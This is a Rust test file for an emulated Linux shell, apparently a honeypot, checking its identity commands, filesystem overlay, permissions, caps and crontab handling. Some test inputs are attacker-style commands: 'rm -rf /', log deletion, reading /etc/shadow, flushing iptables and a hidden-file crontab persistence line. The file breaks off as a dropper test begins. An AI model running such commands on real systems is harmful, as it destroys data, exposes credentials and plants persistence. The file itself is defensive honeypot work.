//! Tests of the fake shell as a session sees it: commands, the filesystem and its overlay,
//! droppers, scripts, caps, and what an idle session costs.

use super::*;

fn world(seed: u64) -> Arc<World> {
    World::new(Identity::generate(seed))
}

/// A seed whose identity is Debian-family (for formats that differ on CentOS).
fn deb_world() -> Arc<World> {
    let seed = (0..)
        .find(|s| Identity::generate(*s).os.is_deb())
        .unwrap_or(0);
    world(seed)
}

fn root(w: &Arc<World>) -> Shell {
    Shell::new(w.clone(), "root", Limits::default())
}

/// A person of the identity (not root).
fn person(w: &Arc<World>) -> Shell {
    let name = w
        .identity()
        .users
        .iter()
        .find(|u| u.uid >= 1000 && u.uid < 65_534)
        .map(|u| u.name.clone())
        .unwrap_or_default();
    Shell::new(w.clone(), &name, Limits::default())
}

fn text(o: &Outcome) -> String {
    String::from_utf8_lossy(&o.output).into_owned()
}

/// Runs a line and gives its output.
fn run(sh: &mut Shell, line: &str) -> String {
    text(&sh.run(line))
}

fn downloads(o: &Outcome) -> Vec<(String, String)> {
    o.effects
        .iter()
        .filter_map(|e| match e {
            Effect::Download { url, tool } => Some((url.clone(), tool.clone())),
            _ => None,
        })
        .collect()
}

// ---- the session and its identity ----

#[test]
fn prompt_and_identity_commands_match_the_identity() {
    let w = deb_world();
    let id = w.identity().clone();
    let mut sh = root(&w);
    assert_eq!(sh.prompt(), format!("root@{}:~# ", id.hostname));
    run(&mut sh, "cd /tmp");
    assert_eq!(sh.prompt(), format!("root@{}:/tmp# ", id.hostname));
    let uname = run(&mut sh, "uname -a");
    assert!(
        uname.starts_with(&format!(
            "Linux {} {} {}",
            id.hostname, id.kernel_release, id.kernel_version
        )),
        "{uname}"
    );
    assert!(uname.trim_end().ends_with("GNU/Linux"));
    assert_eq!(run(&mut sh, "uname -r"), format!("{}\n", id.kernel_release));
    assert_eq!(run(&mut sh, "uname -m"), "x86_64\n");
    assert_eq!(run(&mut sh, "uname -s"), "Linux\n");
    assert_eq!(run(&mut sh, "uname"), "Linux\n");
    assert_eq!(run(&mut sh, "uname -n"), format!("{}\n", id.hostname));
    assert_eq!(run(&mut sh, "uname -o"), "GNU/Linux\n");
    assert_eq!(run(&mut sh, "whoami"), "root\n");
    assert_eq!(
        run(&mut sh, "id"),
        "uid=0(root) gid=0(root) groups=0(root)\n"
    );
    assert_eq!(run(&mut sh, "hostname"), format!("{}\n", id.hostname));
    assert_eq!(
        run(&mut sh, "cat /etc/hostname"),
        format!("{}\n", id.hostname)
    );
    assert_eq!(run(&mut sh, "nproc"), format!("{}\n", id.cores));
    assert_eq!(
        run(&mut sh, "grep -c ^processor /proc/cpuinfo"),
        format!("{}\n", id.cores)
    );
    assert!(run(&mut sh, "cat /proc/cpuinfo").contains(&id.cpu_model));
    assert!(run(&mut sh, "cat /proc/version").contains(&id.kernel_release));
    assert!(run(&mut sh, "cat /etc/os-release")
        .contains(&format!("PRETTY_NAME=\"{}\"", id.os_pretty_name)));
    let passwd = run(&mut sh, "cat /etc/passwd");
    for u in &id.users {
        assert!(
            passwd.contains(&format!("{}:x:{}:{}:", u.name, u.uid, u.gid)),
            "{} missing",
            u.name
        );
    }
    let mem = run(&mut sh, "head -1 /proc/meminfo");
    assert!(mem.contains(&id.mem_kib.to_string()), "{mem}");
    let free = run(&mut sh, "free | grep Mem: | awk '{print $2}'");
    assert_eq!(free.trim(), id.mem_kib.to_string());
    let ip = id.interfaces[0].ipv4.clone();
    assert!(run(&mut sh, "ip a").contains(&format!("inet {ip}/")));
    assert!(run(&mut sh, "ifconfig").contains(&format!("inet {ip}  netmask")));
    assert!(run(&mut sh, "hostname -I").contains(&ip));
}

#[test]
fn a_person_gets_a_dollar_prompt_and_their_groups() {
    let w = deb_world();
    let mut sh = person(&w);
    let u = w
        .identity()
        .users
        .iter()
        .find(|u| u.uid >= 1000 && u.uid < 65_534)
        .cloned()
        .unwrap();
    assert!(sh.prompt().ends_with(":~$ "), "{}", sh.prompt());
    assert_eq!(run(&mut sh, "pwd"), format!("{}\n", u.home));
    let id = run(&mut sh, "id");
    assert!(
        id.starts_with(&format!(
            "uid={}({}) gid={}({})",
            u.uid, u.name, u.gid, u.name
        )),
        "{id}"
    );
    assert!(
        id.contains("sudo") || id.contains("wheel"),
        "the first person administers: {id}"
    );
    assert_eq!(
        run(&mut sh, "echo $HOME $USER"),
        format!("{} {}\n", u.home, u.name)
    );
}

#[test]
fn an_unknown_user_gets_an_account_of_its_own() {
    let w = deb_world();
    let mut sh = Shell::new(w.clone(), "oracle", Limits::default());
    // its home, three dot files and its line of /etc/passwd: a few entries, no copied bytes
    assert!(sh.overlay_bytes() < 1024, "{}", sh.overlay_bytes());
    assert_eq!(sh.ov.content_bytes(), 0);
    assert_eq!(run(&mut sh, "whoami"), "oracle\n");
    assert_eq!(run(&mut sh, "pwd"), "/home/oracle\n");
    assert!(run(&mut sh, "id -u").trim().parse::<u32>().unwrap() >= 1000);
    assert!(run(&mut sh, "grep oracle /etc/passwd").starts_with("oracle:x:"));
    assert!(run(&mut sh, "ls -a").contains(".bashrc"));
    // another session does not see it
    let mut other = root(&w);
    assert_eq!(run(&mut other, "grep -c oracle /etc/passwd"), "0\n");
    assert!(run(&mut other, "ls /home")
        .lines()
        .all(|l| !l.contains("oracle")));
}

// ---- filesystem commands and errors ----

#[test]
fn cd_ls_cat_and_their_errors() {
    let w = deb_world();
    let mut sh = root(&w);
    assert_eq!(
        run(&mut sh, "cd /nope"),
        "-bash: cd: /nope: No such file or directory\n"
    );
    assert_eq!(
        run(&mut sh, "cd /etc/passwd"),
        "-bash: cd: /etc/passwd: Not a directory\n"
    );
    assert_eq!(run(&mut sh, "cd /bin; pwd; pwd -P"), "/bin\n/usr/bin\n");
    assert_eq!(run(&mut sh, "cd ..; pwd"), "/\n");
    assert_eq!(run(&mut sh, "cd /var/log && cd - && cd"), "/\n");
    assert_eq!(run(&mut sh, "pwd"), "/root\n");
    assert_eq!(
        run(&mut sh, "cat /nope"),
        "cat: /nope: No such file or directory\n"
    );
    assert_eq!(run(&mut sh, "cat /etc"), "cat: /etc: Is a directory\n");
    assert_eq!(sh.run("ls /nope").status, 2);
    assert_eq!(
        run(&mut sh, "ls /nope"),
        "ls: cannot access '/nope': No such file or directory\n"
    );
    let root_ls = run(&mut sh, "ls -1 /");
    for d in [
        "bin", "boot", "dev", "etc", "home", "lib", "opt", "proc", "root", "sbin", "srv", "tmp",
        "usr", "var",
    ] {
        assert!(root_ls.lines().any(|l| l == d), "{d} missing from /");
    }
    let long = run(&mut sh, "ls -la /root");
    assert!(long.starts_with("total "), "{long}");
    assert!(
        long.contains(" .bashrc\n")
            && long.contains(" .bash_history\n")
            && long.contains(" .ssh\n")
    );
    assert!(long.lines().nth(1).unwrap().starts_with("drwx"), "{long}");
    let bin = run(&mut sh, "ls -l /bin");
    assert!(
        bin.starts_with("lrwxrwxrwx 1 root root") && bin.contains("/bin -> usr/bin"),
        "{bin}"
    );
    let h = run(&mut sh, "ls -lh /usr/bin/bash");
    assert!(h.starts_with("-rwxr-xr-x 1 root root 1.3M"), "{h}");
    // -R lists below
    run(&mut sh, "mkdir -p /tmp/r/s && touch /tmp/r/s/f");
    assert_eq!(run(&mut sh, "ls -R /tmp/r"), "/tmp/r:\ns\n\n/tmp/r/s:\nf\n");
    // a binary is not text
    let elf = sh.run("cat /bin/ls").output;
    assert!(elf.starts_with(b"\x7fELF\x02\x01\x01"));
    assert!(elf.contains(&0));
}

#[test]
fn echo_redirections_and_files() {
    let w = deb_world();
    let mut sh = root(&w);
    let o = sh.run("echo hello > /tmp/a; echo world >> /tmp/a; cat /tmp/a");
    assert_eq!(text(&o), "hello\nworld\n");
    let written: Vec<&Effect> = o
        .effects
        .iter()
        .filter(|e| matches!(e, Effect::FileWritten { .. }))
        .collect();
    assert_eq!(written.len(), 2);
    assert_eq!(
        written[1],
        &Effect::FileWritten {
            path: "/tmp/a".into(),
            size: 12,
            sha256: util::sha256_hex(b"hello\nworld\n")
        }
    );
    assert_eq!(run(&mut sh, "wc -l /tmp/a"), "2 /tmp/a\n");
    assert_eq!(run(&mut sh, "cat /tmp/a | wc -l"), "2\n");
    assert_eq!(run(&mut sh, "wc /tmp/a"), " 2  2 12 /tmp/a\n");
    assert_eq!(run(&mut sh, "echo -n a; echo b"), "ab\n");
    assert_eq!(sh.run(r"echo -e 'x\x7fy\tz'").output, b"x\x7fy\tz\n");
    assert_eq!(run(&mut sh, "printf '%s-%d\\n' a 5 b 6"), "a-5\nb-6\n");
    // stdout and stderr in order; 2>/dev/null drops errors; 2>&1 sends them down the pipe
    assert_eq!(
        run(&mut sh, "echo a; cat /nope; echo b"),
        "a\ncat: /nope: No such file or directory\nb\n"
    );
    assert_eq!(run(&mut sh, "cat /nope 2>/dev/null; echo done"), "done\n");
    assert_eq!(run(&mut sh, "cat /nope 2>&1 | wc -l"), "1\n");
    assert_eq!(
        run(&mut sh, "cat /nope > /tmp/out 2>&1; cat /tmp/out"),
        "cat: /nope: No such file or directory\n"
    );
    assert_eq!(run(&mut sh, "echo x &> /tmp/both; cat /tmp/both"), "x\n");
    assert_eq!(run(&mut sh, "echo gone > /dev/null"), "");
    assert_eq!(run(&mut sh, "wc -c < /tmp/a"), "12\n");
    assert_eq!(run(&mut sh, "cat <<< 'here string'"), "here string\n");
    assert_eq!(
        run(&mut sh, "> /tmp/empty; ls -l /tmp/empty | awk '{print $5}'"),
        "0\n"
    );
    assert_eq!(
        run(&mut sh, "echo x > /nope/y"),
        "-bash: /nope/y: No such file or directory\n"
    );
    assert_eq!(
        run(&mut sh, "echo x > /tmp"),
        "-bash: /tmp: Is a directory\n"
    );
}

#[test]
fn mkdir_rm_cp_mv_chmod_ln_and_their_errors() {
    let w = deb_world();
    let mut sh = root(&w);
    assert_eq!(run(&mut sh, "mkdir /tmp/d"), "");
    assert_eq!(
        run(&mut sh, "mkdir /tmp/d"),
        "mkdir: cannot create directory ‘/tmp/d’: File exists\n"
    );
    assert_eq!(
        run(&mut sh, "mkdir /tmp/x/y"),
        "mkdir: cannot create directory ‘/tmp/x/y’: No such file or directory\n"
    );
    assert_eq!(run(&mut sh, "mkdir -p /tmp/x/y && ls /tmp/x"), "y\n");
    assert_eq!(
        run(&mut sh, "rm /tmp/nope"),
        "rm: cannot remove '/tmp/nope': No such file or directory\n"
    );
    assert_eq!(run(&mut sh, "rm -f /tmp/nope; echo $?"), "0\n");
    assert_eq!(
        run(&mut sh, "rm /tmp/d"),
        "rm: cannot remove '/tmp/d': Is a directory\n"
    );
    assert_eq!(
        run(&mut sh, "rmdir /tmp/x"),
        "rmdir: failed to remove '/tmp/x': Directory not empty\n"
    );
    assert_eq!(
        run(&mut sh, "rm -rf /tmp/x; ls /tmp/x"),
        "ls: cannot access '/tmp/x': No such file or directory\n"
    );
    assert!(
        run(&mut sh, "rm -rf /").starts_with("rm: it is dangerous to operate recursively on '/'")
    );
    assert!(run(&mut sh, "ls /").contains("etc"));
    // cp and mv
    assert_eq!(
        run(&mut sh, "cp /etc/hostname /tmp/h && cat /tmp/h"),
        format!("{}\n", w.identity().hostname)
    );
    assert_eq!(
        run(&mut sh, "cp /nope /tmp"),
        "cp: cannot stat '/nope': No such file or directory\n"
    );
    assert_eq!(
        run(&mut sh, "cp /etc /tmp/e"),
        "cp: -r not specified; omitting directory '/etc'\n"
    );
    // a copy of BusyBox takes its new name for the applet, as the real one does
    assert_eq!(
        run(&mut sh, "cp /bin/busybox /tmp/bb; /tmp/bb ECCHI"),
        "bb: applet not found\n"
    );
    assert_eq!(run(&mut sh, "/tmp/bb"), "bb: applet not found\n");
    assert_eq!(run(&mut sh, "mv /tmp/h /tmp/d/ && ls /tmp/d"), "h\n");
    assert_eq!(
        run(&mut sh, "mv /tmp/zz /tmp/y"),
        "mv: cannot stat '/tmp/zz': No such file or directory\n"
    );
    // chmod: octal and symbolic, errors
    run(&mut sh, "touch /tmp/f");
    assert!(run(&mut sh, "ls -l /tmp/f").starts_with("-rw-r--r-- "));
    assert!(run(&mut sh, "chmod +x /tmp/f; ls -l /tmp/f").starts_with("-rwxr-xr-x "));
    assert!(run(&mut sh, "chmod 4750 /tmp/f; ls -l /tmp/f").starts_with("-rwsr-x--- "));
    assert!(run(&mut sh, "chmod go-rwx,u=r /tmp/f; ls -l /tmp/f").starts_with("-r-------- "));
    assert_eq!(
        run(&mut sh, "chmod 777 /nope"),
        "chmod: cannot access '/nope': No such file or directory\n"
    );
    assert!(run(&mut sh, "chmod zz /tmp/f").starts_with("chmod: invalid mode: ‘zz’"));
    // symbolic links
    assert_eq!(
        run(&mut sh, "ln -s /etc/hostname /tmp/l && cat /tmp/l"),
        format!("{}\n", w.identity().hostname)
    );
    assert_eq!(
        run(&mut sh, "ln -s /x /tmp/l"),
        "ln: failed to create symbolic link '/tmp/l': File exists\n"
    );
    assert_eq!(run(&mut sh, "readlink /tmp/l"), "/etc/hostname\n");
}

#[test]
fn permission_denied_for_a_person_on_roots_files() {
    let w = deb_world();
    let mut sh = person(&w);
    assert_eq!(
        run(&mut sh, "cat /etc/shadow"),
        "cat: /etc/shadow: Permission denied\n"
    );
    assert_eq!(
        run(&mut sh, "ls /root"),
        "ls: cannot open directory '/root': Permission denied\n"
    );
    assert_eq!(
        run(&mut sh, "cd /root"),
        "-bash: cd: /root: Permission denied\n"
    );
    assert_eq!(
        run(&mut sh, "echo x >> /etc/passwd"),
        "-bash: /etc/passwd: Permission denied\n"
    );
    assert_eq!(
        run(&mut sh, "rm /etc/hosts"),
        "rm: cannot remove '/etc/hosts': Permission denied\n"
    );
    assert_eq!(
        run(&mut sh, "touch /etc/x"),
        "touch: cannot touch '/etc/x': Permission denied\n"
    );
    assert_eq!(
        run(&mut sh, "mkdir /opt/x"),
        "mkdir: cannot create directory ‘/opt/x’: Permission denied\n"
    );
    assert_eq!(
        run(&mut sh, "chmod 777 /etc/passwd"),
        "chmod: changing permissions of '/etc/passwd': Operation not permitted\n"
    );
    assert!(run(&mut sh, "sudo id").ends_with("sudo: 3 incorrect password attempts\n"));
    assert_eq!(
        run(&mut sh, "su"),
        "Password: \nsu: Authentication failure\n"
    );
    // but /tmp is everyone's
    assert_eq!(run(&mut sh, "echo ok > /tmp/mine; cat /tmp/mine"), "ok\n");
    // root sees shadow hashes, shaped like SHA-512 crypt
    let mut r = root(&w);
    let shadow = run(&mut r, "head -1 /etc/shadow");
    assert!(shadow.starts_with("root:$6$"), "{shadow}");
    assert_eq!(shadow.split(':').nth(1).unwrap().len(), 106);
}

#[test]
fn sessions_are_isolated_and_the_base_is_shared() {
    let w = deb_world();
    let mut a = root(&w);
    let mut b = root(&w);
    run(
        &mut a,
        "echo secret > /tmp/a.txt; rm -rf /var/log; mkdir /srv/new",
    );
    assert_eq!(run(&mut a, "cat /tmp/a.txt"), "secret\n");
    assert_eq!(
        run(&mut b, "cat /tmp/a.txt"),
        "cat: /tmp/a.txt: No such file or directory\n"
    );
    assert!(run(&mut b, "ls /var").contains("log"));
    assert!(!run(&mut a, "ls /var").contains("log"));
    assert_eq!(run(&mut b, "ls /srv"), "");
    // re-creating a deleted directory does not bring the base back below it
    assert_eq!(run(&mut a, "mkdir /var/log; ls /var/log"), "");
    assert!(a.overlay_bytes() > 0);
    assert_eq!(b.overlay_bytes(), 0);
    // the base has not changed
    let mut c = root(&w);
    assert!(
        run(&mut c, "ls /var/log").contains(if w.identity().os.is_deb() {
            "auth.log"
        } else {
            "secure"
        })
    );
}

#[test]
fn filesystem_caps_hold() {
    let w = deb_world();
    let limits = Limits {
        max_fs_bytes: 1000,
        max_files: 10,
        ..Limits::default()
    };
    let mut sh = Shell::new(w, "root", limits);
    let o = sh.run("head -c 5000 /dev/zero > /tmp/big");
    assert!(text(&o).contains("No space left on device"), "{}", text(&o));
    assert!(o.effects.contains(&Effect::Capped { what: "fs" }));
    assert_eq!(run(&mut sh, "wc -c < /tmp/big"), "1000\n");
    run(&mut sh, "rm /tmp/big");
    let o = sh.run("for i in 1 2 3 4 5 6 7 8 9 10 11 12; do mkdir /tmp/d$i; done");
    assert!(
        text(&o).contains("mkdir: cannot create directory ‘/tmp/d11’: No space left on device"),
        "{}",
        text(&o)
    );
    assert!(sh.overlay_bytes() < 4096, "{}", sh.overlay_bytes());
}

#[test]
fn output_and_line_caps_hold() {
    let w = deb_world();
    let limits = Limits {
        max_output: 4096,
        max_line: 100,
        ..Limits::default()
    };
    let mut sh = Shell::new(w, "root", limits);
    let o = sh.run("yes");
    assert_eq!(o.output.len(), 4096);
    assert!(o.effects.contains(&Effect::Capped { what: "output" }));
    let o = sh.run(&format!("echo {}", "a".repeat(200)));
    assert!(o.effects.contains(&Effect::Capped { what: "line" }));
    assert_eq!(text(&o), "-bash: echo: Argument list too long\n");
    // a pipe's cut is silent: only the terminal's is told
    let o = sh.run("yes | head -2");
    assert_eq!(text(&o), "y\ny\n");
    assert!(o.effects.is_empty());
}

#[test]
fn history_is_kept_and_capped() {
    let w = deb_world();
    let mut sh = root(&w);
    let loaded = run(&mut sh, "history").lines().count();
    run(&mut sh, "echo one");
    run(&mut sh, " echo hidden");
    run(&mut sh, "echo one");
    let h = run(&mut sh, "history");
    assert!(h.lines().any(|l| l.ends_with("  echo one")));
    assert!(!h.contains("hidden"));
    // "history" again and one "echo one" (the repeat and the hidden line are not kept)
    assert_eq!(h.lines().count(), loaded + 2, "{h}");
    for i in 0..600 {
        sh.run(&format!("echo {i} {}", "x".repeat(2000)));
    }
    assert_eq!(sh.history.len(), HISTORY_LINES);
    assert!(sh.history.iter().all(|l| l.len() <= HISTORY_LINE_BYTES));
    run(&mut sh, "history -c");
    assert_eq!(run(&mut sh, "history"), "    1  history\n");
}

// ---- the shell language ----

#[test]
fn statuses_drive_and_or() {
    let w = deb_world();
    let mut sh = root(&w);
    assert_eq!(run(&mut sh, "true && echo a || echo b"), "a\n");
    assert_eq!(run(&mut sh, "false && echo a || echo b"), "b\n");
    assert_eq!(
        run(&mut sh, "cd /nope 2>/dev/null || cd /tmp; pwd"),
        "/tmp\n"
    );
    assert_eq!(sh.run("nosuchcmd").status, 127);
    assert_eq!(
        run(&mut sh, "nosuchcmd"),
        "-bash: nosuchcmd: command not found\n"
    );
    assert_eq!(run(&mut sh, "false; echo $?"), "1\n");
    assert_eq!(run(&mut sh, "! false; echo $?"), "0\n");
    assert_eq!(sh.run("grep -q root /etc/passwd").status, 0);
    assert_eq!(sh.run("grep -q nobodyhere /etc/passwd").status, 1);
}

#[test]
fn variables_quotes_and_substitution() {
    let w = deb_world();
    let mut sh = root(&w);
    assert_eq!(run(&mut sh, "X=1; echo $X ${X} \"$X\" '$X'"), "1 1 1 $X\n");
    assert_eq!(run(&mut sh, "echo ${UNSET:-dflt} ${#HOME}"), "dflt 5\n");
    assert_eq!(run(&mut sh, "export A=b; env | grep ^A="), "A=b\n");
    assert_eq!(run(&mut sh, "unset A; echo [$A]"), "[]\n");
    assert_eq!(
        run(&mut sh, "echo $(echo a $(echo b)) `whoami`"),
        "a b root\n"
    );
    assert_eq!(run(&mut sh, "echo \"$(printf 'x\\ny')\""), "x\ny\n");
    assert_eq!(
        run(&mut sh, "echo $((2 ** 10)) $((7 / 2)) $((1 / 0))"),
        "-bash: 1 / 0: division by 0 (error token is \"0\")\n"
    );
    assert_eq!(
        run(
            &mut sh,
            "i=0; while [ $i -lt 3 ]; do i=$((i+1)); done; echo $i"
        ),
        "3\n"
    );
    assert_eq!(
        run(&mut sh, "for f in a b; do echo -n $f; done; echo"),
        "ab\n"
    );
    assert_eq!(
        run(&mut sh, "if [ -d /tmp ]; then echo yes; else echo no; fi"),
        "yes\n"
    );
    assert_eq!(
        run(&mut sh, "[[ -f /etc/passwd && $HOME == /root ]] && echo ok"),
        "ok\n"
    );
    assert_eq!(run(&mut sh, "echo ~ ~root/x"), "/root /root/x\n");
    assert_eq!(run(&mut sh, "cd /etc; echo host*; cd"), "hostname hosts\n");
    assert_eq!(run(&mut sh, "echo /nonexistent/*"), "/nonexistent/*\n");
    assert_eq!(run(&mut sh, "alias ll2='ls -d'; ll2 /tmp"), "/tmp\n");
    assert_eq!(run(&mut sh, "echo 'unclosed"), "-bash: unexpected EOF while looking for matching `''\n-bash: syntax error: unexpected end of file\n");
    assert_eq!(sh.run("echo \"x").status, 2);
    assert_eq!(
        run(&mut sh, "ls | | wc"),
        "-bash: syntax error near unexpected token `|'\n"
    );
    // a here-document waits for its end across lines
    assert_eq!(run(&mut sh, "cat > /tmp/h <<EOF"), "");
    assert_eq!(sh.prompt(), "> ");
    assert_eq!(run(&mut sh, "line $USER"), "");
    assert_eq!(run(&mut sh, "EOF"), "");
    assert_eq!(run(&mut sh, "cat /tmp/h"), "line root\n");
}

#[test]
fn text_tools() {
    let w = deb_world();
    let mut sh = root(&w);
    run(&mut sh, "printf 'b 2\\na 1\\nb 2\\nc 3\\n' > /tmp/t");
    assert_eq!(run(&mut sh, "sort /tmp/t | uniq"), "a 1\nb 2\nc 3\n");
    assert_eq!(
        run(&mut sh, "sort -r /tmp/t | uniq -c"),
        "      1 c 3\n      2 b 2\n      1 a 1\n"
    );
    assert_eq!(run(&mut sh, "sort -k2 -n /tmp/t | head -1"), "a 1\n");
    assert_eq!(
        run(&mut sh, "cut -d' ' -f2 /tmp/t | tr '\\n' ,"),
        "2,1,2,3,"
    );
    assert_eq!(run(&mut sh, "grep -v b /tmp/t"), "a 1\nc 3\n");
    assert_eq!(run(&mut sh, "grep -ic B /tmp/t"), "2\n");
    assert_eq!(run(&mut sh, "grep -n '^c' /tmp/t"), "4:c 3\n");
    assert_eq!(
        run(&mut sh, "awk '{print $2, $1}' /tmp/t | head -1"),
        "2 b\n"
    );
    assert_eq!(
        run(&mut sh, "awk -F: '{print $1}' /etc/passwd | head -1"),
        "root\n"
    );
    assert_eq!(run(&mut sh, "awk 'NR==2' /tmp/t"), "a 1\n");
    assert_eq!(run(&mut sh, "awk '{s+=$2} END {print s}' /tmp/t"), "8\n");
    assert!(run(&mut sh, "awk '{print $1' /tmp/t").contains("syntax error"));
    assert_eq!(run(&mut sh, "sed 's/b/B/g' /tmp/t | head -1"), "B 2\n");
    assert_eq!(run(&mut sh, "sed -n '2p' /tmp/t"), "a 1\n");
    assert_eq!(run(&mut sh, "head -n 2 /tmp/t"), "b 2\na 1\n");
    assert_eq!(run(&mut sh, "tail -n 1 /tmp/t"), "c 3\n");
    assert_eq!(run(&mut sh, "tail -n +4 /tmp/t"), "c 3\n");
    assert_eq!(run(&mut sh, "echo hello | tr a-z A-Z"), "HELLO\n");
    assert_eq!(run(&mut sh, "echo aabbcc | tr -d b | tr -s a"), "acc\n");
    assert_eq!(run(&mut sh, "echo -n hello | base64"), "aGVsbG8=\n");
    assert_eq!(run(&mut sh, "echo aGVsbG8= | base64 -d"), "hello");
    assert_eq!(
        run(&mut sh, "echo !!! | base64 -d; echo $?"),
        "base64: invalid input\n1\n"
    );
    assert_eq!(
        run(&mut sh, "echo -n abc | md5sum"),
        "900150983cd24fb0d6963f7d28e17f72  -\n"
    );
    assert_eq!(
        run(&mut sh, "echo -n abc | sha256sum"),
        "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad  -\n"
    );
    assert_eq!(
        run(&mut sh, "echo -n abc | sha1sum"),
        "a9993e364706816aba3e25717850c26c9cd0d89d  -\n"
    );
    assert_eq!(run(&mut sh, "seq 3"), "1\n2\n3\n");
    assert_eq!(run(&mut sh, "echo a b c | xargs -n1 echo"), "a\nb\nc\n");
}

#[test]
fn checksums_of_fake_files_are_real_hashes_of_their_bytes() {
    let w = deb_world();
    let mut sh = root(&w);
    for f in ["/etc/passwd", "/usr/bin/ls", "/usr/bin/busybox"] {
        let bytes = sh.run(&format!("cat {f}")).output;
        let line = run(&mut sh, &format!("md5sum {f}"));
        if bytes.len() < Limits::default().max_output {
            assert_eq!(line, format!("{:x}  {f}\n", md5::compute(&bytes)));
        }
        let sha = run(&mut sh, &format!("sha256sum {f}"));
        let size: usize = run(&mut sh, &format!("stat -c %s {f}"))
            .trim()
            .parse()
            .unwrap();
        let full = sh
            .read_path(&mut exec::Run::new(1 << 20), f, usize::MAX)
            .unwrap();
        assert_eq!(full.len(), size);
        assert_eq!(sha, format!("{}  {f}\n", util::sha256_hex(&full)));
    }
    // the same across sessions
    let mut other = root(&w);
    assert_eq!(
        run(&mut sh, "md5sum /bin/ls"),
        run(&mut other, "md5sum /bin/ls")
    );
}

#[test]
fn system_commands_look_right() {
    let w = deb_world();
    let mut sh = root(&w);
    let id = w.identity().clone();
    let up = run(&mut sh, "uptime");
    assert!(
        up.contains(" up ") && up.contains("1 user,  load average: "),
        "{up}"
    );
    let free = run(&mut sh, "free -m");
    assert!(free.starts_with("               total        used        free      shared  buff/cache   available\nMem:"), "{free}");
    let df = run(&mut sh, "df -h");
    assert!(
        df.starts_with("Filesystem      Size  Used Avail Use% Mounted on\n"),
        "{df}"
    );
    assert!(df.lines().any(|l| l.ends_with(" /")));
    let ps = run(&mut sh, "ps aux");
    assert!(ps.starts_with("USER         PID %CPU %MEM"), "{ps}");
    assert!(ps.contains("sshd") && ps.contains("-bash") && ps.contains("ps aux"));
    let ef = run(&mut sh, "ps -ef");
    assert!(ef.starts_with("UID          PID    PPID  C STIME TTY          TIME CMD\n"));
    assert!(run(&mut sh, "top -bn1").starts_with("top - "));
    let ns = run(&mut sh, "netstat -tulpn");
    assert!(ns.contains("0.0.0.0:22") && ns.contains("LISTEN"), "{ns}");
    assert!(run(&mut sh, "ss -tlnp").contains("0.0.0.0:22"));
    assert!(run(&mut sh, "ip route").starts_with(&format!("default via {} dev", id.gateway)));
    assert!(run(&mut sh, "lscpu").contains(&id.cpu_model));
    assert!(run(&mut sh, "w").contains("USER     TTY      FROM"));
    assert!(run(&mut sh, "last").contains("still logged in"));
    assert!(run(&mut sh, "dmesg").contains(&id.kernel_release));
    assert!(run(&mut sh, "mount").contains(" on / type "));
    assert!(run(&mut sh, "lsblk").contains(&id.disk_dev));
    assert!(run(&mut sh, "iptables -L").starts_with("Chain INPUT (policy ACCEPT)"));
    assert_eq!(run(&mut sh, "iptables -F"), "");
    assert!(run(&mut sh, "systemctl status ssh").contains("Active: active (running)"));
    assert_eq!(run(&mut sh, "systemctl stop ssh"), "");
    assert!(
        run(&mut sh, "systemctl status nosuch").contains("Unit nosuch.service could not be found.")
    );
    assert_eq!(
        run(&mut sh, "kill -9 999999"),
        "-bash: kill: (999999) - No such process\n"
    );
    assert_eq!(run(&mut sh, "sleep 1000; echo woke"), "woke\n");
    assert!(run(&mut sh, "date").ends_with(&format!("UTC {}\n", util::tm(util::now()).year)));
    assert_eq!(run(&mut sh, "crontab -l"), "no crontab for root\n");
    assert!(run(&mut sh, "passwd").ends_with("passwd: password updated successfully\n"));
    assert_eq!(run(&mut sh, "sudo whoami"), "root\n");
    assert!(run(&mut sh, "chattr -i /etc/passwd; lsattr /etc/passwd").ends_with(" /etc/passwd\n"));
    assert_eq!(run(&mut sh, "python3 -c 'import os'"), "");
    assert_eq!(
        run(&mut sh, "bash -c 'echo inner; exit 3'; echo $?"),
        "inner\n3\n"
    );
    assert_eq!(run(&mut sh, "sh -c 'cd /etc'; pwd"), "/root\n");
    assert_eq!(
        run(&mut sh, "type cd ls"),
        "cd is a shell builtin\nls is /usr/bin/ls\n"
    );
    assert_eq!(run(&mut sh, "which wget"), "/usr/bin/wget\n");
    assert_eq!(sh.run("which nosuch").status, 1);
    let bb = run(&mut sh, "busybox");
    assert!(
        bb.starts_with("BusyBox v") && bb.contains("Currently defined functions:"),
        "{bb}"
    );
    assert_eq!(run(&mut sh, "busybox echo hi"), "hi\n");
    let bg = run(&mut sh, "sleep 5 &");
    assert!(bg.starts_with("[1] "), "{bg}");
    assert!(
        run(&mut sh, "true").starts_with("[1]+  Done "),
        "the job's notice comes after the next line"
    );
}

#[test]
fn crontab_installs_from_stdin_and_files() {
    let w = deb_world();
    let mut sh = person(&w);
    let me = run(&mut sh, "whoami").trim().to_string();
    assert_eq!(run(&mut sh, "crontab -l"), format!("no crontab for {me}\n"));
    let o =
        sh.run("(crontab -l 2>/dev/null; echo '* * * * * /tmp/.x >/dev/null 2>&1') | crontab -");
    assert!(
        o.effects.iter().any(
            |e| matches!(e, Effect::FileWritten { path, .. } if path.ends_with(&format!("/{me}")))
        ),
        "{:?}",
        o.effects
    );
    assert_eq!(
        run(&mut sh, "crontab -l"),
        "* * * * * /tmp/.x >/dev/null 2>&1\n"
    );
    assert_eq!(
        run(&mut sh, "echo 'bad line' > /tmp/c; crontab /tmp/c"),
        "\"/tmp/c\":1: bad command\nerrors in crontab file, can't install.\n"
    );
    assert_eq!(
        run(&mut sh, "crontab -r; crontab -l"),
        format!("no crontab for {me}\n")
    );
}

#[test]
fn exit_and_logout_end_the_session() {
    let w = deb_world();
    let mut sh = root(&w);
    let o = sh.run("exit");
    assert!(o.exit);
    assert_eq!(text(&o), "logout\n");
    let mut sh = root(&w);
    let o = sh.run("logout");
    assert!(o.exit);
    let mut sh = root(&w);
    assert!(
        !sh.run("bash -c exit").exit,
        "a nested shell's exit ends only it"
    );
    assert!(!sh.run("(exit 1)").exit);
    assert_eq!(sh.run("exit 5").status, 5);
    // su into someone, exit comes back
    let mut sh = root(&w);
    let who = w
        .identity()
        .users
        .iter()
        .find(|u| u.uid >= 1000 && u.uid < 65_534)
        .unwrap()
        .name
        .clone();
    run(&mut sh, &format!("su - {who}"));
    assert_eq!(run(&mut sh, "whoami"), format!("{who}\n"));
    assert!(!sh.run("exit").exit);
    assert_eq!(run(&mut sh, "whoami"), "root\n");
}

// ---- droppers: recorded, never fetched, nothing created ----

#[test]
fn every_dropper_records_its_url_and_creates_nothing() {
    let w = deb_world();
